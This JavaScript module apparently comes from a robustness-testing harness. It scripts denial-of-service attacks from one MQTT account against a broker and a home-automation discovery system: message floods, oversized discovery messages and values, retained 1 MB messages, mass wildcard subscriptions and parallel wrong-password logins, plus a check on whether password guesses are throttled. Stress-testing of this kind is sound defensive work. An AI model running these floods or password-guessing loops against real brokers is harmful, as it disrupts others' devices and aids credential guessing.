// What one MQTT account can do to others: floods of messages, discovery messages, filters and connections.
import { openMqttAttacker, publishPacket, subscribePacket } from './attacker-mqtt.js';
import { pause } from './attacker-socket.js';

/** Writes chunks of packets until the attack ends; `chunk(n)` returns the n-th and its number of packets. */
async function pour(broker, { until, tally }, chunk) {
  let client;
  for (let n = 0; performance.now() < until; n += 1) {
    if (client?.isOpen !== true) {
      if (client !== undefined) tally.ended += 1;
      client = await openMqttAttacker(broker).catch(() => undefined);
      if (client === undefined) {
        tally.refused += 1;
        await pause(100);
        continue;
      }
    }
    const { bytes, count } = chunk(n);
    await client.write(bytes);
    tally.sent += count;
  }
  client?.destroy();
}

const config = (name) => ({
  name,
  unique_id: `attack_${name}`,
  state_topic: 'attack/state',
  value_template: '{{ value_json.value }}',
  device: { identifiers: ['attack'], name: 'Attack' },
});

const announced = (name) =>
  publishPacket(`homeassistant/sensor/attack_${name}/config`, JSON.stringify(config(name)));

/** Publishes to a discovered sensor. */
function publishes(qos) {
  return {
    name: `attack: flood of QoS ${qos} publishes from one account`,
    async run({ broker }, span) {
      const chunks = Array.from({ length: 50 }, (_, n) =>
        Buffer.concat(
          Array.from({ length: 500 }, (_, m) =>
            publishPacket('attack/state', `{"value":${n * 500 + m}}`, {
              qos,
              id: 1 + ((n * 500 + m) % 65_000),
            }),
          ),
        ),
      );
      const first = await openMqttAttacker(broker);
      await first.write(announced('state'));
      await pause(300);
      first.destroy();
      await pour(broker, span, (n) => ({ bytes: chunks[n % chunks.length], count: 500 }));
    },
  };
}

/** A discovery message for a device with many entities, repeated with other IDs. */
const bigDevice = {
  name: 'attack: announcements of 3,000 entities each, MQTT',
  async run({ broker }, { until, tally }) {
    const client = await openMqttAttacker(broker);
    for (let n = 0; performance.now() < until && n < 3 && client.isOpen; n += 1) {
      const components = Object.fromEntries(
        Array.from({ length: 3000 }, (_, m) => [
          `c${m}`,
          { platform: 'sensor', name: `S ${m}`, unique_id: `attack_${n}_${m}`, state_topic: 'attack/state' },
        ]),
      );
      const device = {
        device: { identifiers: [`attack${n}`], name: 'Attack' },
        origin: { name: 'a' },
        components,
      };
      await client.write(publishPacket(`homeassistant/device/attack${n}/config`, JSON.stringify(device)));
      tally.sent += 1;
      await pause(1500);
    }
    await pause(until - performance.now());
    client.destroy();
  },
};

/** A sensor with a unit, and states of half a million digits and a letter. */
const longNumbers = {
  name: 'attack: numbers of half a million digits and a letter, MQTT',
  async run({ broker }, { until, tally }) {
    const client = await openMqttAttacker(broker);
    const measuring = { ...config('number'), unit_of_measurement: 'W', value_template: undefined };
    await client.write(publishPacket('homeassistant/sensor/attack_number/config', JSON.stringify(measuring)));
    await pause(300);
    const message = publishPacket('attack/state', `${'1'.repeat(500_000)}x`);
    while (performance.now() < until && client.isOpen) {
      await client.write(message);
      tally.sent += 1;
      await pause(100);
    }
    client.destroy();
  },
};

export const deviceAttacks = [
  longNumbers,
  publishes(0),
  publishes(1),
  bigDevice,
  {
    name: 'attack: announcements of ever other entities, MQTT',
    run: ({ broker }, span) =>
      pour(broker, span, (n) => ({
        bytes: Buffer.concat(Array.from({ length: 50 }, (_, m) => announced(`${n * 50 + m}`))),
        count: 50,
      })),
  },
  {
    name: 'attack: a sensor announced and taken back, MQTT',
    run: ({ broker }, span) =>
      pour(broker, span, () => ({
        bytes: Buffer.concat(
          Array.from({ length: 50 }, () => [
            announced('flapping'),
            publishPacket('homeassistant/sensor/attack_flapping/config', ''),
          ]).flat(),
        ),
        count: 100,
      })),
  },
  {
    name: 'attack: retained messages of 1 MB on ever other topics, MQTT',
    run: ({ broker }, span) => {
      const payload = Buffer.alloc(1_000_000, 'r');
      return pour(broker, span, (n) => ({
        bytes: publishPacket(`attack/kept/${n}`, payload, { retain: true }),
        count: 1,
      }));
    },
  },
  {
    name: 'attack: 20,000 filters of a client and messages for all of them, MQTT',
    async run({ broker }, { until, tally }) {
      const client = await openMqttAttacker(broker);
      for (let n = 0; n < 20; n += 1) {
        const filters = Array.from({ length: 1000 }, (_, m) => `attack/${'+/'.repeat(m % 7)}${n}/${m}/#`);
        await client.write(subscribePacket(filters, n + 1));
      }
      client.destroy();
      tally.sent += 20_000;
      await pour(broker, { until, tally }, () => ({
        bytes: Buffer.concat(Array(200).fill(publishPacket('attack/a/b/c/d/e/f', 'x'))),
        count: 200,
      }));
    },
  },
  {
    name: 'attack: 50 clients that hear a flood and read nothing, MQTT',
    async run({ broker }, { until, tally }) {
      const clients = await Promise.all(Array.from({ length: 50 }, () => openMqttAttacker(broker)));
      for (const client of clients) {
        await client.write(subscribePacket(['#']));
        client.pause();
      }
      const payload = Buffer.alloc(100_000, 'x');
      await pour(broker, { until, tally }, (n) => ({
        bytes: publishPacket(`attack/${n}`, payload),
        count: 1,
      }));
    },
  },
  {
    name: 'attack: connections with wrong passwords from one address, MQTT',
    async run({ broker }, { until, tally }) {
      const one = async () => {
        while (performance.now() < until) {
          tally.sent += 1;
          await openMqttAttacker({ ...broker, password: `wrong ${tally.sent}` }).catch(() => {
            tally.refused += 1;
          });
        }
      };
      await Promise.all(Array.from({ length: 50 }, one));
    },
  },
];

/** How many of `count` simultaneous wrong passwords are checked rather than throttled. */
export async function guessesLookedAt(broker, count) {
  const codes = await Promise.all(
    Array.from({ length: count }, (_, n) =>
      openMqttAttacker({ ...broker, password: `guess ${n}` }).then(
        () => 0,
        ({ code }) => code,
      ),
    ),
  );
  return {
    lookedAt: codes.filter((code) => code === 4 || code === 5).length,
    putOff: codes.filter((c) => c === 3).length,
  };
}
